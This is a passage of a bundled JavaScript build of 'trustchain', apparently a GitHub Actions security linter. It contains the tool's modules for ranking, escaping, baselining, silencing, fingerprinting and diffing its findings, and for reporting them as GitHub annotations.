    remedy;
    constructor(
    /** An option, an input, or `file[:line[:column]]`. */
    place, reason, remedy) {
        super(`${place}: ${reason}: ${remedy}`);
        this.place = place;
        this.reason = reason;
        this.remedy = remedy;
        this.name = "UserError";
    }
}


/***/ }),

/***/ 3465:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   x: () => (/* binding */ VERSION)
/* harmony export */ });
/** The version of trustchain; the same as in the root's package.json (a test holds them together). */
const VERSION = "0.1.0";


/***/ }),

/***/ 1533:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   D9: () => (/* binding */ markdownCode),
/* harmony export */   FV: () => (/* binding */ escapeMarkdown),
/* harmony export */   GO: () => (/* binding */ escapeJson),
/* harmony export */   en: () => (/* binding */ escapeTerminal),
/* harmony export */   ju: () => (/* binding */ markdownMessage)
/* harmony export */ });
/**
 * Characters that change how a terminal, a log or a page shows the text around them, or that can't be seen: C1 controls,
 * direction marks (Unicode TR 9), zero-width and filler characters, tags, halves of surrogate pairs.
 */
const UNSEEN = "\\x7f-\\x9f\\xad\\u061c\\u115f\\u1160\\u180e\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\u3164\\ufeff\\uffa0\\ufff9-\\ufffb\\u{e0000}-\\u{e007f}\\p{Cs}";
/** These and the C0 controls. */
const UNSAFE = new RegExp(`[\\x00-\\x1f${UNSEEN}]`, "gu");
const NAMED = { "\n": "\\n", "\r": "\\r", "\t": "\\t" };
/**
 * A text that may come from anywhere as one line that a terminal shows as it is: what is unsafe stands as an escape,
 * such as `\n`, `\x1b` or `\u202e`.
 */
function escapeTerminal(text) {
    return text.replace(UNSAFE, visible);
}
function visible(char) {
    const code = char.codePointAt(0);
    const hex = code.toString(16);
    return (NAMED[char] ??
        (code <= 0xff ? `\\x${hex.padStart(2, "0")}` : code <= 0xffff ? `\\u${hex.padStart(4, "0")}` : `\\u{${hex}}`));
}
/**
 * JSON text in which strings hold no unsafe character raw. It means the same: only `\u` escapes take their place.
 *
 * @param json as `JSON.stringify` writes it; its line breaks stay
 * @see RFC 8259, section 7
 */
function escapeJson(json) {
    return json.replace(UNSAFE_IN_JSON, unitEscapes);
}
/** `JSON.stringify` has escaped the C0 controls. */
const UNSAFE_IN_JSON = new RegExp(`[${UNSEEN}]`, "gu");
function unitEscapes(char) {
    let text = "";
    for (let i = 0; i < char.length; i++)
        text += `\\u${char.charCodeAt(i).toString(16).padStart(4, "0")}`;
    return text;
}
/** Zero width space: breaks up what would become a link or a mention, and can't be seen. */
const BREAK = "\u200b";
/** What ends or begins something in HTML or in a table. A bar is an entity: `\|` after a backslash would end the cell. */
const ENTITIES = {
    "&": "&amp;",
    "<": "&lt;",
    ">": "&gt;",
    '"': "&quot;",
    "|": "&#124;",
    [BREAK]: "&#8203;",
};
/**
 * A text that may come from anywhere as Markdown that shows it as it is, on one line, in a table's cell too: no markup,
 * no HTML, no link, no mention, no reference to an issue.
 *
 * @see GitHub Flavored Markdown, sections 2.4 (backslash escapes), 4.10 (tables) and 6.9 (autolinks)
 */
function escapeMarkdown(text) {
    return escapeTerminal(text)
        .replace(/@|:(?=\/\/)|www(?=\.)|\bgh-(?=\d)|#(?=\d)/gi, `$&${BREAK}`)
        .replace(/[\\`*_[\]#!~$]/g, "\\$&")
        .replace(/[&<>"|\u200b]/g, (char) => ENTITIES[char])
        .replace(/^(\s*)([-+=]|\d{1,9}(?=[.)]))/, (_, space, mark) => `${space}${/\d/.test(mark) ? `${mark}\\` : `\\${mark}`}`);
}
/** The same as a code span, where one can hold it. */
function markdownCode(text) {
    const shown = escapeTerminal(text);
    // Inside a table a code span can't hold a bar, and backticks or outer spaces need more care than they are worth.
    return shown === "" || /[`|]|^ | $/.test(shown) ? escapeMarkdown(text) : `\`${shown}\``;
}
/**
 * A message, with its code spans, as Markdown. Messages quote what a repository says between backticks: whatever stands
 * there, each part is shown as it is.
 */
function markdownMessage(message) {
    const parts = message.split("`");
    // A backtick without its partner belongs to the text.
    if (parts.length % 2 === 0) {
        const last = parts.pop();
        parts[parts.length - 1] += `\`${last}`;
    }
    let markdown = "";
    for (let i = 0; i < parts.length; i++) {
        const part = parts[i];
        markdown += i % 2 === 1 && part !== "" ? markdownCode(part) : escapeMarkdown(part);
    }
    return markdown;
}


/***/ }),

/***/ 45:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   DM: () => (/* binding */ lowered),
/* harmony export */   Eg: () => (/* binding */ compareFindings),
/* harmony export */   Ud: () => (/* binding */ PERSONAS),
/* harmony export */   du: () => (/* binding */ isAtLeast),
/* harmony export */   it: () => (/* binding */ isHeardBy),
/* harmony export */   n6: () => (/* binding */ compareText),
/* harmony export */   oC: () => (/* binding */ SEVERITIES),
/* harmony export */   zK: () => (/* binding */ compareSeverity)
/* harmony export */ });
/* unused harmony export CONFIDENCES */
/** From worst to least; the order is the order of reports. */
const SEVERITIES = ["critical", "high", "medium", "low", "info"];
const CONFIDENCES = (/* unused pure expression or super */ null && (["high", "medium", "low"]));
/** For whom a finding speaks; each persona also hears what the ones before it hear (zizmor's word). */
const PERSONAS = ["regular", "pedantic", "auditor"];
/** Negative when `a` is worse than `b`. */
function compareSeverity(a, b) {
    return SEVERITIES.indexOf(a) - SEVERITIES.indexOf(b);
}
function isAtLeast(severity, threshold) {
    return compareSeverity(severity, threshold) <= 0;
}
/** One level less severe; `info` stays. */
function lowered(severity) {
    return SEVERITIES[Math.min(SEVERITIES.indexOf(severity) + 1, SEVERITIES.length - 1)];
}
/** Does a finding made for `persona` reach someone who asked as `asked`? */
function isHeardBy(persona, asked) {
    return PERSONAS.indexOf(persona) <= PERSONAS.indexOf(asked);
}
/** The order of reports: path, line, column, rule, then message so that equal places keep one order. */
function compareFindings(a, b) {
    return (compareText(a.location.path, b.location.path) ||
        a.location.startLine - b.location.startLine ||
        a.location.startColumn - b.location.startColumn ||
        compareText(a.rule, b.rule) ||
        compareText(a.message, b.message));
}
/** Order by UTF-16 code units: the same on every machine, unlike `localeCompare`. */
function compareText(a, b) {
    return a < b ? -1 : a > b ? 1 : 0;
}


/***/ }),

/***/ 8751:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  IF: () => (/* reexport */ FormatError),
  Ud: () => (/* reexport */ finding/* PERSONAS */.Ud),
  oC: () => (/* reexport */ finding/* SEVERITIES */.oC),
  sC: () => (/* reexport */ SourceFile),
  annotations: () => (/* reexport */ github.annotations),
  Qp: () => (/* reexport */ applyBaseline),
  XX: () => (/* reexport */ applyComments),
  ct: () => (/* reexport */ text_edit/* applyEdits */.ct),
  $X: () => (/* reexport */ text_edit/* compareEdits */.$X),
  zK: () => (/* reexport */ finding/* compareSeverity */.zK),
  n6: () => (/* reexport */ finding/* compareText */.n6),
  Ot: () => (/* reexport */ report/* countBySeverity */.O),
  en: () => (/* reexport */ lib_escape/* escapeTerminal */.en),
  f5: () => (/* reexport */ fingerprintFindings),
  du: () => (/* reexport */ finding/* isAtLeast */.du),
  it: () => (/* reexport */ finding/* isHeardBy */.it),
  jobSummary: () => (/* reexport */ jobSummary),
  uL: () => (/* reexport */ limitFindings),
  DM: () => (/* reexport */ finding/* lowered */.DM),
  Qo: () => (/* reexport */ mayHoldIgnores),
  nk: () => (/* reexport */ parseBaseline),
  B1: () => (/* reexport */ renderReport),
  _u: () => (/* reexport */ selectFixes),
  Tc: () => (/* reexport */ report/* sortFindings */.T),
  WH: () => (/* reexport */ unifiedDiff),
  B9: () => (/* reexport */ writeBaseline)
});

// UNUSED EXPORTS: CONFIDENCES, areApart, compareFindings, escapeMarkdown, ignoreComments, isSameEdit, overlaps, reportSchema, wrap

// EXTERNAL MODULE: ./packages/findings/lib/finding.js
var finding = __nccwpck_require__(45);
;// CONCATENATED MODULE: ./packages/findings/lib/format-error.js
/** A file of ours that isn't as it should be: which, where, what is wrong, what to do. */
class FormatError extends Error {
    file;
    reason;
    remedy;
    /** 1-based; undefined where the file as a whole is meant. */
    line;
    constructor(file, reason, remedy, line) {
        super(`${line === undefined ? file : `${file}:${line}`}: ${reason}: ${remedy}`);
        this.file = file;
        this.reason = reason;
        this.remedy = remedy;
        this.name = "FormatError";
        this.line = line;
    }
}

;// CONCATENATED MODULE: ./packages/findings/lib/baseline.js


/** The version of the file's form; the version of the tool that wrote it does not matter. */
const SCHEMA = 1;
const REMEDY = "write it again with --write-baseline";
/**
 * Reads a baseline.
 *
 * @param file how errors call it
 * @throws FormatError when it is none
 */
function parseBaseline(text, file) {
    let parsed;
    try {
        // Editors on Windows put a byte order mark before it.
        parsed = JSON.parse(text.replace(/^\ufeff/, ""));
    }
    catch (error) {
        throw new FormatError(file, "it is not JSON", REMEDY, lineOfJsonError(text, error));
    }
    if (!isRecord(parsed) || !("schema" in parsed))
        throw new FormatError(file, "it is no baseline", REMEDY);
    if (parsed.schema !== SCHEMA) {
        const given = JSON.stringify(parsed.schema)?.slice(0, 20);
        throw new FormatError(file, `it has schema ${given}, and this version reads schema ${SCHEMA}`, REMEDY);
    }
    const { findings } = parsed;
    if (!Array.isArray(findings))
        throw new FormatError(file, "it has no list of findings", REMEDY);
    return new Set(findings.map((finding, i) => fingerprintOf(finding, i, file)));
}
/** JSON.parse tells the place in its message only, and not for every mistake. */
function lineOfJsonError(text, error) {
    const position = /at position (\d+)/.exec(String(error))?.[1];
    return position === undefined ? undefined : text.slice(0, Number(position)).split("\n").length;
}
function fingerprintOf(finding, index, file) {
    if (isRecord(finding) && typeof finding.fingerprint === "string")
        return finding.fingerprint;
    throw new FormatError(file, `finding ${index + 1} has no fingerprint`, REMEDY);
}
function isRecord(value) {
    return typeof value === "object" && value !== null;
}
/** Marks the findings that a baseline knows. Those that are silenced otherwise keep their reason. */
function applyBaseline(findings, baseline) {
    const suppressed = { by: "baseline", reason: "known in the baseline" };
    return findings.map((finding) => !finding.suppressed && baseline.has(finding.fingerprint) ? { ...finding, suppressed } : finding);
}
/** A baseline that holds the findings which nothing silences; those that an older baseline silenced stay in. */
function writeBaseline(findings, version) {
    const known = findings
        .filter((finding) => !finding.suppressed || finding.suppressed.by === "baseline")
        .map(({ fingerprint, rule, location, message }) => ({ fingerprint, rule, path: location.path, message }))
        .sort((a, b) => (0,finding/* compareText */.n6)(a.path, b.path) || (0,finding/* compareText */.n6)(a.rule, b.rule) || (0,finding/* compareText */.n6)(a.fingerprint, b.fingerprint));
    return `${JSON.stringify({ schema: SCHEMA, tool: { name: "trustchain", version }, findings: known }, null, 2)}\n`;
}

;// CONCATENATED MODULE: ./packages/findings/lib/comments.js
// It may stand behind other words and a `#` of its own: `# v4.2.2 # trustchain: ignore[…] …`. Neither ids nor the spaces
// can be read twice from different beginnings, so time grows with the length only.
const IGNORE = /(?:^|#)[ \t]*(trustchain|zizmor):[ \t]*ignore[ \t]*\[([^[\]#]*)\]/g;
/** ratchet's word for a reference that stays as it is. */
const EXCLUDED_BY_RATCHET = /(?:^|#)[ \t]*ratchet:exclude\b/;
const RATCHET = { dialect: "ratchet", rules: ["unpinned-uses", "unpinned-images"], reason: "ratchet:exclude" };
/** `trustchain ignore`, `Trustchain: Ignore[…`: somebody thinks that it silences something. */
const LOOKS_LIKE_OURS = /(?:^|#)[ \t]*trustchain[ \t]*:?[ \t]*ignore\b/i;
/**
 * The ignore comments among a file's comments.
 *
 * One at the end of a line speaks of that line; one alone on its line of the next line that holds more than a comment.
 */
function ignoreComments(comments) {
    const lines = targetLines(comments);
    return comments.flatMap((comment) => {
        if (EXCLUDED_BY_RATCHET.test(comment.text))
            return [{ comment, ...RATCHET, line: comment.line }];
        const matches = comment.text.includes("ignore") ? [...comment.text.matchAll(IGNORE)] : [];
        return matches.map((match, i) => {
            const reasonEnd = matches[i + 1]?.index ?? comment.text.length;
            return {
                comment,
                dialect: match[1],
                rules: [...new Set(match[2].split(",").map((id) => id.trim()))].filter((id) => id !== ""),
                reason: comment.text.slice(match.index + match[0].length, reasonEnd).trim(),
                line: lines.get(comment.line) ?? comment.line,
            };
        });
    });
}
/** For the line of each comment that stands alone, the line that it speaks of; several in a row speak of the same. */
function targetLines(comments) {
    const targets = new Map();
    const alone = comments.filter((comment) => comment.alone).map((comment) => comment.line);
    for (const line of alone.sort((a, b) => b - a))
        targets.set(line, targets.get(line + 1) ?? line + 1);
    return targets;
}
/** May a text hold an ignore comment, or one that is meant to be one? To look for comments takes a walk through the file. */
function mayHoldIgnores(text) {
    return /(?:trustchain|zizmor)[ \t]*:?[ \t]*ignore|ratchet:exclude/i.test(text);
}
/**
 * Marks the findings of one file that its comments silence.
 *
 * zizmor's comments count for rules that both tools share. zizmor asks for no reason, so none is asked for, and takes a
 * comment on any line of the finding and of what it belongs to.
 */
function applyComments(findings, comments, options) {
    const ignores = ignoreComments(comments);
    const places = new Places(ignores);
    const used = new Map();
    const silenced = findings.map((finding) => {
        const silencing = places.around(finding, options);
        for (const ignore of silencing)
            used.set(ignore, (used.get(ignore) ?? new Set()).add(finding.rule));
        // Ours come first: they have a reason.
        const ignore = silencing.find(({ dialect }) => dialect === "trustchain") ?? silencing[0];
        // Who silenced it before keeps it.
        if (finding.suppressed || !ignore)
            return finding;
        return { ...finding, suppressed: { by: "comment", reason: ignore.reason || "zizmor ignore" } };
    });
    const ours = ignores.filter(({ dialect, rules }) => dialect === "trustchain" && rules.length > 0);
    const understood = new Set(ours.map(({ comment }) => comment));
    return {
        findings: silenced,
        malformed: comments.filter((comment) => LOOKS_LIKE_OURS.test(comment.text) && !understood.has(comment)),
        withoutReason: ours.filter(({ reason }) => reason === ""),
        unused: ours
            .filter(({ reason }) => reason !== "")
            .flatMap((ignore) => ignore.rules.map((rule) => ({ ignore, rule })))
            .filter(({ ignore, rule }) => !used.get(ignore)?.has(rule)),
    };
}
/** Ignore comments by rule and line: files may hold thousands of them. */
class Places {
    byRule = new Map();
    constructor(ignores) {
        for (const ignore of ignores) {
            if (ignore.dialect === "trustchain" && ignore.reason === "")
                continue;
            for (const rule of ignore.rules) {
                this.add(rule, ignore.line, ignore);
                if (ignore.dialect === "zizmor")
                    this.add(rule, ignore.comment.line, ignore);
            }
        }
    }
    /** Those that silence a finding. */
    around(finding, options) {
        const lines = this.byRule.get(finding.rule);
        if (!lines)
            return [];
        const { startLine, endLine } = finding.location;
        const ends = new Set([startLine, endLine, ...options.alsoLines(finding)]);
        const found = [...ends].flatMap((line) => [...(lines.get(line) ?? [])]);
        const [first, last] = options.partLines(finding) ?? [startLine, endLine];
        for (let line = Math.min(first, startLine); line <= Math.max(last, endLine); line++) {
            for (const ignore of lines.get(line) ?? [])
                if (ignore.dialect === "zizmor")
                    found.push(ignore);
        }
        return found.filter(({ dialect }) => dialect !== "zizmor" || options.isZizmorRule(finding.rule));
    }
    add(rule, line, ignore) {
        const lines = this.byRule.get(rule) ?? new Map();
        this.byRule.set(rule, lines);
        lines.set(line, (lines.get(line) ?? new Set()).add(ignore));
    }
}

// EXTERNAL MODULE: ./packages/findings/lib/escape.js
var lib_escape = __nccwpck_require__(1533);
;// CONCATENATED MODULE: ./packages/findings/lib/fingerprint.js
/**
 * Gives each finding its fingerprint: 64 hexadecimal digits, SHA-256 of rule, path, anchor and its number among those
 * that share them, in the order in which they come. It stays the same when lines move.
 */
function fingerprintFindings(findings) {
    if (findings.length === 0)
        return [];
    // Not an import: commands that fingerprint nothing don't wait for it.
    const crypto = process.getBuiltinModule("node:crypto");
    const seen = new Map();
    return findings.map((finding) => {
        const identity = `${finding.rule}\0${finding.location.path}\0${finding.anchor}`;
        const ordinal = seen.get(identity) ?? 0;
        seen.set(identity, ordinal + 1);
        // Six times faster than `createHash` for texts of this size.
        return { ...finding, fingerprint: crypto.hash("sha256", `${identity}\0${ordinal}`, "hex"), suppressed: null };
    });
}

;// CONCATENATED MODULE: ./packages/findings/lib/limit-findings.js

/** Nobody reads more of one rule in one file; a file made to hold a hundred thousand would make reports of a hundred megabytes. */
const MOST_OF_A_RULE = 1000;
/**
 * The worst findings of each rule in one file, in the order in which they were given. Where some are left out, the first of
 * the worst says how many: that one is in every form of the report.
 */
function limitFindings(findings, most = MOST_OF_A_RULE) {
    const crowds = [...groupByRuleAndFile(findings).values()].filter((group) => group.length > most);
    const leftOut = new Set();
    const heads = new Map();
    for (const crowd of crowds) {
        const [head, ...rest] = crowd.sort(compareWeight);
        for (const finding of rest.slice(most - 1))
            leftOut.add(finding);
        heads.set(head, `${crowd.length - most} more findings of this rule in this file are left out of the report`);
    }
    return {
        findings: findings
            .filter((finding) => !leftOut.has(finding))
            .map((finding) => {
            const note = heads.get(finding);
            return note === undefined ? finding : { ...finding, message: `${finding.message} (${note})` };
        }),
        notes: [...heads].map(([{ rule, location }, note]) => `${location.path}: ${rule}: ${note}`),
    };
}
function groupByRuleAndFile(findings) {
    const groups = new Map();
    for (const finding of findings) {
        const key = `${finding.rule}\0${finding.location.path}`;
        const group = groups.get(key);
        if (group)
            group.push(finding);
        else
            groups.set(key, [finding]);
    }
    return groups;
}
/** What is suppressed goes last; else the order stays. */
function compareWeight(a, b) {
    return Number(a.suppressed !== null) - Number(b.suppressed !== null) || (0,finding/* compareSeverity */.zK)(a.severity, b.severity);
}

;// CONCATENATED MODULE: ./packages/findings/lib/render-report.js
/** A report in one of its forms, ending with a line break. The same report gives the same text. */
async function renderReport(format, report, context, options) {
    switch (format) {
        case "text":
            return (await __nccwpck_require__.e(/* import() */ 408).then(__nccwpck_require__.bind(__nccwpck_require__, 2408))).renderText(report, context, options);
        case "json":
            return (await __nccwpck_require__.e(/* import() */ 231).then(__nccwpck_require__.bind(__nccwpck_require__, 4231))).renderJson(report);
        case "sarif":
            return (await __nccwpck_require__.e(/* import() */ 188).then(__nccwpck_require__.bind(__nccwpck_require__, 3188))).renderSarif(report, context);
        case "markdown":
            return (await __nccwpck_require__.e(/* import() */ 920).then(__nccwpck_require__.bind(__nccwpck_require__, 4920))).renderMarkdown(report, context);
        case "github":
            return (await Promise.resolve(/* import() */).then(__nccwpck_require__.bind(__nccwpck_require__, 9254))).renderGithub(report, context);
    }
}
/** The report for `GITHUB_STEP_SUMMARY`: Markdown of at most 1 MiB, which is what GitHub takes of a step. */
async function jobSummary(report, context) {
    return (await __nccwpck_require__.e(/* import() */ 920).then(__nccwpck_require__.bind(__nccwpck_require__, 4920))).renderJobSummary(report, context);
}

// EXTERNAL MODULE: ./packages/findings/lib/report.js
var report = __nccwpck_require__(636);
// EXTERNAL MODULE: ./packages/findings/lib/reporters/github.js
var github = __nccwpck_require__(9254);
// EXTERNAL MODULE: ./packages/findings/lib/text-edit.js
var text_edit = __nccwpck_require__(6730);
;// CONCATENATED MODULE: ./packages/findings/lib/select-fixes.js

/**
 * Chooses the fixes to apply in one round: in the order of the findings, each wholly or not at all, none that overlaps one
 * before it. Edits that are the same count once: two fixes may share them.
 */
function selectFixes(findings, mode) {
    const files = new Map();
    for (const finding of findings) {
        const { fix } = finding;
        if (!fix || finding.suppressed || (mode === "safe" && !fix.safe))
            continue;
        if (isFree(files, fix.files))
            for (const change of fix.files)
                take(files, change, finding);
    }
    return { files: [...files.values()] };
}
function isFree(files, changes) {
    return changes.every(({ path, edits }) => {
        const taken = files.get(path)?.edits ?? [];
        return (0,text_edit/* areApart */.NQ)(edits) && edits.every((edit) => placeFor(taken, edit) !== "taken");
    });
}
function take(files, { path, edits }, finding) {
    const selected = files.get(path) ?? { path, edits: [], findings: [] };
    files.set(path, selected);
    for (const edit of edits) {
        const place = placeFor(selected.edits, edit);
        if (typeof place === "number")
            selected.edits.splice(place, 0, edit);
    }
    selected.findings.push(finding);
}
/** The index at which an edit belongs among edits that are in order and apart from each other. */
function placeFor(edits, edit) {
    let low = 0;
    let high = edits.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if ((0,text_edit/* compareEdits */.$X)(edits[middle], edit) < 0)
            low = middle + 1;
        else
            high = middle;
    }
    // Of edits that are apart, only the nearest one before this may reach into it.
    for (let i = Math.max(0, low - 1); i < edits.length; i++) {
        const other = edits[i];
        if ((0,text_edit/* isSameEdit */.fG)(other, edit))
            return "shared";
        if ((0,text_edit/* overlaps */.$f)(other, edit))
            return "taken";
        if (other.start > edit.end)
            break;
    }
    return low;
}

;// CONCATENATED MODULE: ./packages/findings/lib/source-file.js
/**
 * A text file of the repository under judgement, with positions.
 *
 * `text` is what was read from disk, byte order mark included, so that offsets are offsets into the file and an edit
 * can be applied to it as it is. A byte order mark takes no column: it is not part of line 1.
 */
class SourceFile {
    path;
    text;
    #lineStarts;
    constructor(
    /** Path relative to the repository, with `/`. */
    path, text) {
        this.path = path;
        this.text = text;
    }
    /** The offset at which each line begins. Lines end with LF, CRLF or a lone CR (YAML 1.2, section 5.4). */
    get lineStarts() {
        this.#lineStarts ??= lineStartsOf(this.text);
        return this.#lineStarts;
    }
    get lineCount() {
        return this.lineStarts.length;
    }
    /** Where `offset` is; offsets outside the text are moved to its nearest end. */
    position(offset) {
        const starts = this.lineStarts;
        const at = Math.max(starts[0], Math.min(offset, this.text.length));
        let low = 0;
        let high = starts.length - 1;
        while (low < high) {
            const middle = (low + high + 1) >> 1;
            if (starts[middle] <= at)
                low = middle;
            else
                high = middle - 1;
        }
        return { line: low + 1, column: at - starts[low] + 1 };
    }
    /** The text of a 1-based line without its line break; empty for a line that does not exist. */
    line(number) {
        const start = this.lineStarts[number - 1];
        if (start === undefined)
            return "";
        let end = this.lineStarts[number] ?? this.text.length;
        // By hand: a regular expression would look through the whole line, and lines may have a megabyte.
        while (end > start && isLineBreak(this.text.charCodeAt(end - 1)))
            end--;
        return this.text.slice(start, end);
    }
}
function isLineBreak(code) {
    return code === 10 || code === 13;
}
function lineStartsOf(text) {
    const starts = [text.charCodeAt(0) === 0xfeff ? 1 : 0];
    if (text.includes("\r")) {
        for (let i = 0; i < text.length; i++) {
            const code = text.charCodeAt(i);
            if (code === 10 || (code === 13 && text.charCodeAt(i + 1) !== 10))
                starts.push(i + 1);
        }
        return starts;
    }
    for (let i = text.indexOf("\n"); i !== -1; i = text.indexOf("\n", i + 1))
        starts.push(i + 1);
    return starts;
}

;// CONCATENATED MODULE: ./packages/findings/lib/line-diff.js
/** Lines with their line feeds; only the last may lack one. A carriage return is part of its line. */
function splitLines(text) {
    const lines = [];
    let start = 0;
    while (start < text.length) {
        const end = text.indexOf("\n", start) + 1 || text.length;
        lines.push(text.slice(start, end));
        start = end;
    }
    return lines;
}
/** How far ahead a line is looked for to find where two texts meet again. Fixes change a few lines at a place. */
const LOOK_AHEAD = 200;
/**
 * What changed between two lists of lines, in order.
 *
 * It walks both: where they part, the nearest pair of equal lines is where they meet again. Time grows with the lines and
 * the number of changes; a change of more than some hundred lines may come out larger than need be, never wrong.
 */
function diffLines(old, now) {
    const tail = commonTail(old, now);
    const oldLength = old.length - tail;
    const newLength = now.length - tail;
    const changes = [];
    let i = 0;
    let j = 0;
    while (i < oldLength || j < newLength) {
        if (i < oldLength && j < newLength && old[i] === now[j]) {
            i++;
            j++;
            continue;
        }
        const [oldEnd, newEnd] = meetingPoint(old, now, i, j, oldLength, newLength);
        changes.push({ oldStart: i, oldEnd, newStart: j, newEnd });
        i = oldEnd;
        j = newEnd;
    }
    return changes;
}
function commonTail(old, now) {
    const most = Math.min(old.length, now.length);
    let tail = 0;
    while (tail < most && old[old.length - 1 - tail] === now[now.length - 1 - tail])
        tail++;
    return tail;
}
function meetingPoint(old, now, i, j, oldLength, newLength) {
    for (let distance = 1; distance <= LOOK_AHEAD; distance++) {
        for (let skipped = 0; skipped <= distance; skipped++) {
            const a = i + skipped;
            const b = j + distance - skipped;
            if (a > oldLength || b > newLength)
                continue;
            const areAtEnd = a === oldLength && b === newLength;
            if (areAtEnd || (a < oldLength && b < newLength && old[a] === now[b]))
                return [a, b];
        }
    }
    return [oldLength, newLength];
}

;// CONCATENATED MODULE: ./packages/findings/lib/unified-diff.js


/** Unchanged lines around a change. */
const CONTEXT = 3;
/**
 * One unified diff of several files, as `git apply` takes it. Empty where nothing changed.
 *
 * @see POSIX `diff`, "Diff -u Output Format"; git's `quote.c` for paths
 */
function unifiedDiff(files) {
    return files
        .filter(({ before, after }) => before !== after)
        .sort((a, b) => (0,finding/* compareText */.n6)(a.path, b.path))
        .map(diffOf)
        .join("");
}
function diffOf({ path, before, after }) {
    const old = splitLines(before);
    const now = splitLines(after);
    const hunks = hunksOf(diffLines(old, now));
    return `--- ${quoted(`a/${path}`)}\n+++ ${quoted(`b/${path}`)}\n${hunks.map((hunk) => printHunk(hunk, old, now)).join("")}`;
}
/** Changes whose context would touch or overlap share a hunk. */
function hunksOf(changes) {
    const hunks = [];
    let last;
    for (const change of changes) {
        if (last && change.oldStart - last.oldEnd <= 2 * CONTEXT)
            hunks.at(-1)?.push(change);
        else
            hunks.push([change]);
        last = change;
    }
    return hunks;
}
function printHunk(changes, old, now) {
    const first = changes[0];
    const last = changes.at(-1);
    const oldFrom = Math.max(0, first.oldStart - CONTEXT);
    const oldTo = Math.min(old.length, last.oldEnd + CONTEXT);
    const newFrom = first.newStart - (first.oldStart - oldFrom);
    const newTo = last.newEnd + (oldTo - last.oldEnd);
    let text = `@@ -${rangeOf(oldFrom, oldTo)} +${rangeOf(newFrom, newTo)} @@\n`;
    let at = oldFrom;
    for (const change of changes) {
        text += printLines(" ", old, at, change.oldStart);
        text += printLines("-", old, change.oldStart, change.oldEnd);
        text += printLines("+", now, change.newStart, change.newEnd);
        at = change.oldEnd;
    }
    return text + printLines(" ", old, at, oldTo);
}
/** An empty range is named by the line before it. */
function rangeOf(from, to) {
    const count = to - from;
    return count === 1 ? `${from + 1}` : `${count === 0 ? from : from + 1},${count}`;
}
function printLines(mark, lines, from, to) {
    let text = "";
    for (let i = from; i < to; i++) {
        const line = lines[i];
        text += mark + (line.endsWith("\n") ? line : `${line}\n\\ No newline at end of file\n`);
    }
    return text;
}
const NAMED_ESCAPES = {
    "\x07": "\\a",
    "\b": "\\b",
    "\t": "\\t",
    "\n": "\\n",
    "\v": "\\v",
    "\f": "\\f",
    "\r": "\\r",
    '"': '\\"',
    "\\": "\\\\",
};
/**
 * Paths with control characters, quotes or anything outside ASCII stand in C-style quotes, by their UTF-8 bytes.
 * One with a space ends in a tab, so that it doesn't end at the space.
 */
function quoted(path) {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
    if (!/[\x00-\x1f\x7f-\uffff"\\]/.test(path))
        return path.includes(" ") ? `${path}\t` : path;
    let text = "";
    for (const byte of new TextEncoder().encode(path)) {
        const char = String.fromCharCode(byte);
        const isPlain = byte >= 0x20 && byte < 0x7f;
        text += NAMED_ESCAPES[char] ?? (isPlain ? char : `\\${byte.toString(8).padStart(3, "0")}`);
    }
    return `"${text}"`;
}

;// CONCATENATED MODULE: ./packages/findings/lib/index.js


















/***/ }),

/***/ 636:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   O: () => (/* binding */ countBySeverity),
/* harmony export */   T: () => (/* binding */ sortFindings)
/* harmony export */ });
/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(45);

/** Counts of the findings that are not suppressed, by severity. */
function countBySeverity(findings) {
    const counts = Object.fromEntries(_finding_js__WEBPACK_IMPORTED_MODULE_0__/* .SEVERITIES */ .oC.map((severity) => [severity, 0]));
    for (const finding of findings)
        if (!finding.suppressed)
            counts[finding.severity]++;
    return counts;
}
function sortFindings(findings) {
    return [...findings].sort(_finding_js__WEBPACK_IMPORTED_MODULE_0__/* .compareFindings */ .Eg);
}


/***/ }),

/***/ 9254:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

__nccwpck_require__.r(__webpack_exports__);
/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   annotations: () => (/* binding */ annotations),
/* harmony export */   renderGithub: () => (/* binding */ renderGithub)
/* harmony export */ });
/* harmony import */ var _escape_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(1533);
/* harmony import */ var _finding_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(45);


const LEVELS = {
    critical: "error",
    high: "error",
    medium: "warning",
    low: "notice",
    info: "notice",
};
/** GitHub shows so many of each level for a step, and drops the rest without a word. */
const LIMIT = 10;
/** Notes for the findings that nothing silences: the worst first, as many as GitHub shows, and one on how many are left out. */
function annotations(report, context) {
    const findings = report.findings
        .filter(({ suppressed }) => !suppressed)
        .sort((a, b) => (0,_finding_js__WEBPACK_IMPORTED_MODULE_1__/* .compareSeverity */ .zK)(a.severity, b.severity));
    let shown = firstOfEach(findings, { error: LIMIT, warning: LIMIT, notice: LIMIT });
    // The note on the rest is a notice too and needs a place among them.
    if (shown.length < findings.length)
        shown = firstOfEach(findings, { error: LIMIT, warning: LIMIT, notice: LIMIT - 1 });
    const notes = shown.map((finding) => annotationOf(finding, context));
    const rest = findings.length - shown.length;
    if (rest > 0)
        notes.push({ level: "notice", title: "trustchain", message: restMessage(rest) });
    return notes;
}
function firstOfEach(findings, limits) {
    return findings.filter(({ severity }) => limits[LEVELS[severity]]-- > 0);
}
function restMessage(rest) {
    return `${rest} more ${rest === 1 ? "finding is" : "findings are"} in the summary and the report: GitHub shows ${LIMIT} notes of a level`;
}
